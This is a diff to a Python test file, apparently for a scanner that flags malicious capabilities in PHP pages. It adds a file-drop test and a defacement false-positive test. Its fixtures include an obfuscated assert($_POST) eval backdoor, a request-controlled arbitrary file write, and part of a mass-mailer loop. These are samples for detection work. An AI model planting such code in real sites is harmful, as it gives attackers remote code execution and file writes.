@@ -205,6 +205,27 @@ for ($x = 0; $x < count($all); $x++) { mail($all[$x], $subject, $message); } ?>"
     assert cap.MASS_MAILER in _ids(page)
 
 
+def test_register_globals_link_parameters_and_reopened_handles() -> None:
+    # the page links to itself with ?save=...; the write goes through the SECOND fopen
+    page = b"""<a href="?save=x">edit</a><form><textarea name="body"></textarea></form>
+<? if ($mk) { $h = fopen("./new.txt", 'w'); fwrite($h, "x"); fclose($h); }
+if ($save) { $h = fopen($save, 'w'); fwrite($h, $body); fclose($h); } ?>"""
+    assert _ids(page).get(cap.FILE_DROP) == Severity.MEDIUM
+    # without the link the name is not request input
+    assert cap.FILE_DROP not in _ids(page.replace(b'<a href="?save=x">edit</a>', b""))
+
+
+def test_generated_index_page_is_not_a_defacement() -> None:
+    # a documentation generator assembles an index page in a loop and writes it out
+    page = b"""<?php
+$h = fopen('../docs/index.html', 'w');
+$html = '<ul>';
+foreach ($topics as $t) { $html .= '<li>' . htmlspecialchars($t) . '</li>'; }
+fwrite($h, $html . '</ul>');
+fclose($h);"""
+    assert cap.DEFACE not in _ids(page)
+
+
 def test_comment_split_code_is_read_through() -> None:
     page = b'<?php @$_="a"."ss"."ert"; @$_/*x*/($/*y*/{"_PO"."ST"}[0]);'
     assert _ids(page).get(cap.CALLBACK_EXEC) == Severity.HIGH
